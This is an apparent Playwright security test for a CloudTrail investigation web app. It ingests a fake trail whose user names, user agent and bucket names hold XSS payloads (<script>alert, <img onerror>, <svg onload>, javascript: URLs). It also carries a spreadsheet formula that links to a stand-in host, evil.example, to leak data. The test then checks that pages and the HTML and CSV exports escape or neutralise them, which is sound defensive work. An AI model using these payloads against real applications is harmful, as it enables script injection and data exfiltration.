// Issue #8's XSS test: a trail whose userName, userAgent, bucket names, requestParameters and error
// messages hold <script>, <img onerror>, <svg onload>, javascript: URLs and =HYPERLINK(…) is ingested and
// detected; the lead confirms every finding, walks every page that shows those strings, and exports the
// report. Nothing may execute (Playwright listens for dialogs, page errors and console errors), the HTML
// report holds no live element built from them, and the CSV neutralises every formula.
import { writeFileSync } from "node:fs";
import path from "node:path";
import { expect, test, type Page } from "@playwright/test";
import { E2E_ARTIFACTS } from "./e2e-paths";
import { createUserWithCli, trailbench } from "./fixtures/cli";
import { signInAs } from "./fixtures/sign-in";
import { screenshotPath } from "./fixtures/trail-files";

const lead = { email: "hana@example.test", name: "Hana Hostile" };
const ACCOUNT = "111122223333";
const USER = `<script>alert("user")</script>`;
const ARN = `arn:aws:iam::${ACCOUNT}:user/${USER}`;
const UA = `<img src=x onerror=alert("ua")>`;
const BUCKET = `=HYPERLINK("http://evil.example/?leak","open me")`;
const TRAIL = `javascript:alert("trail")`;
const NEW_USER = `<svg onload=alert("newuser")>`;
const KEY = "AKIAHOSTILE000000001";

function record(i: number, eventName: string, eventSource: string, extra: Record<string, unknown>) {
  return {
    eventVersion: "1.08",
    userIdentity: { type: "IAMUser", principalId: "AIDAHOSTILE", arn: ARN, accountId: ACCOUNT, accessKeyId: KEY, userName: USER },
    eventTime: `2024-03-01T10:0${i}:00Z`,
    eventSource,
    eventName,
    awsRegion: "us-east-1",
    sourceIPAddress: "203.0.113.66",
    userAgent: UA,
    requestID: `req-hostile-${i}`,
    eventID: `b0570000-0000-4000-8000-00000000000${i}`,
    readOnly: false,
    eventType: "AwsApiCall",
    managementEvent: true,
    recipientAccountId: ACCOUNT,
    eventCategory: "Management",
    ...extra,
  };
}

const RECORDS = [
  record(1, "StopLogging", "cloudtrail.amazonaws.com", {
    requestParameters: { name: TRAIL },
    errorCode: "AccessDenied",
    errorMessage: `<script>alert("err")</script> is not authorized`,
  }),
  record(2, "PutBucketPolicy", "s3.amazonaws.com", {
    userAgent: BUCKET,
    requestParameters: { bucketName: BUCKET, bucketPolicy: { Version: "2012-10-17", Statement: [{ Effect: "Allow", Principal: "*", Action: "s3:GetObject", Resource: `arn:aws:s3:::${BUCKET}/*` }] } },
    resources: [{ ARN: `arn:aws:s3:::${BUCKET}`, type: "AWS::S3::Bucket" }],
  }),
  record(3, "CreateUser", "iam.amazonaws.com", { requestParameters: { userName: NEW_USER }, responseElements: { user: { userName: NEW_USER, arn: `arn:aws:iam::${ACCOUNT}:user/${NEW_USER}` } } }),
  record(4, "CreateAccessKey", "iam.amazonaws.com", { requestParameters: { userName: NEW_USER }, responseElements: { accessKey: { accessKeyId: "AKIAHOSTILE000000002", userName: NEW_USER } } }),
];

let caseId = "";
const problems: string[] = [];

function watch(page: Page): void {
  page.on("dialog", (d) => {
    problems.push(`dialog: ${d.message()}`);
    void d.dismiss();
  });
  page.on("pageerror", (e) => problems.push(`pageerror: ${e.message}`));
  page.on("console", (m) => {
    if (m.type() === "error") problems.push(`console: ${m.text()} (${m.location().url})`);
  });
}

test.describe.configure({ mode: "serial" });

test.beforeAll(() => {
  createUserWithCli(lead.email, lead.name);
  caseId = (JSON.parse(trailbench(["cases", "create", "Hostile strings", "--lead", lead.email, "--json"])) as { id: string }).id;
  const file = path.join(E2E_ARTIFACTS, "files", "hostile-trail.json");
  writeFileSync(file, JSON.stringify({ Records: RECORDS }));
  expect((JSON.parse(trailbench(["ingest", file, "--case", caseId, "--json"])) as { inserted: number }).inserted).toBe(4);
  trailbench(["detect", "--case", caseId]);
});

test("hostile CloudTrail strings render as text on every page, and nothing runs", async ({ page }) => {
  watch(page);
  await signInAs(page, lead.email);
  await page.goto(`/cases/${caseId}/findings`);
  const findings = page.getByTestId("finding");
  const rules = await findings.evaluateAll((els) => els.map((e) => e.getAttribute("data-rule")));
  for (const rule of ["cloudtrail-logging-stopped", "s3-bucket-opened", "iam-user-created"]) expect(rules).toContain(rule);
  for (let i = 0; i < (await findings.count()); i++) {
    const f = findings.nth(i);
    await f.getByLabel("Status").selectOption("confirmed");
    await f.getByRole("button", { name: "Save triage" }).click();
    await expect(f.getByRole("status")).toHaveText("Saved.");
    await expect(f.getByLabel("Status")).toHaveValue("confirmed");
  }
  await expect(page.getByText(USER).first()).toBeVisible();
  await page.screenshot({ path: screenshotPath("hostile-findings"), fullPage: true });

  const pages = [
    `/cases/${caseId}`,
    `/cases/${caseId}/events`,
    `/cases/${caseId}/events?q=${encodeURIComponent(`ua:"${UA}"`)}`,
    ...RECORDS.map((r) => `/cases/${caseId}/events/${r.eventID}`),
    `/cases/${caseId}/identities`,
    `/cases/${caseId}/heatmaps`,
    `/cases/${caseId}/lineage?key=${KEY}`,
    `/cases/${caseId}/integrity`,
    `/search?q=${encodeURIComponent(UA)}`,
  ];
  for (const url of pages) {
    const res = await page.goto(url);
    expect(res?.status(), url).toBe(200);
    await page.waitForLoadState("networkidle");
    expect(await page.locator("script:not([src]):not([type]):not([id])", { hasText: "alert(" }).count(), url).toBe(0);
    expect(await page.locator('img[src="x"], svg[onload], a[href^="javascript:"]').count(), url).toBe(0);
  }
  await page.goto(`/cases/${caseId}/events/${RECORDS[0]!.eventID}`);
  await expect(page.locator('td[data-field="userAgent"]')).toHaveText(UA);
  await expect(page.getByTestId("raw-record")).toContainText(JSON.stringify(TRAIL));
  await page.screenshot({ path: screenshotPath("hostile-event"), fullPage: false });
  expect(problems).toEqual([]);
});

test("the exported HTML report runs nothing and the CSV neutralises every formula", async ({ page }) => {
  watch(page);
  await signInAs(page, lead.email);
  await page.goto(`/cases/${caseId}/reports`);
  for (const [format, rows] of [["html", 1], ["csv", 2]] as const) {
    await page.getByRole("form", { name: "Export the report" }).locator("select[name=format]").selectOption(format);
    await page.getByRole("button", { name: "Export report" }).click();
    await expect(page.getByTestId("report-row")).toHaveCount(rows, { timeout: 45_000 });
  }
  const body = async (format: string) => {
    const row = page.getByTestId("report-row").filter({ has: page.locator("td:nth-child(2)", { hasText: new RegExp(`^${format}$`) }) });
    const res = await page.request.get((await row.getByRole("link").getAttribute("href"))!);
    expect(res.status()).toBe(200);
    return (await res.body()).toString("utf8");
  };
  const html = await body("html");
  for (const s of [USER, UA, NEW_USER]) expect(html).not.toContain(s);
  expect(html).toContain("&lt;script&gt;alert(&quot;user&quot;)&lt;/script&gt;");
  expect(html).not.toContain('href="javascript:');
  // The report on its own page, as a reader opens the file (no app script around it).
  const report = await page.context().newPage();
  watch(report);
  await report.setContent(html);
  await report.waitForTimeout(500);
  expect(await report.locator("script, img, iframe, object, embed").count()).toBe(0);
  expect(await report.locator("svg[onload], [onerror], [onload]").count()).toBe(0);
  await expect(report.getByText("StopLogging").first()).toBeVisible();
  await report.screenshot({ path: screenshotPath("hostile-report-html"), fullPage: false });

  const csv = await body("csv");
  const cells = csv
    .trim()
    .split(/\r?\n/)
    .flatMap((line) => line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? [])
    .map((c) => c.replace(/,$/, "").replace(/^"|"$/g, "").replace(/""/g, '"'));
  // Every cell a spreadsheet would read as a formula is prefixed with a quote.
  expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  expect(csv).toContain(`'=HYPERLINK(""http://evil.example/?leak"",""open me"")`);
  expect(problems).toEqual([]);
});
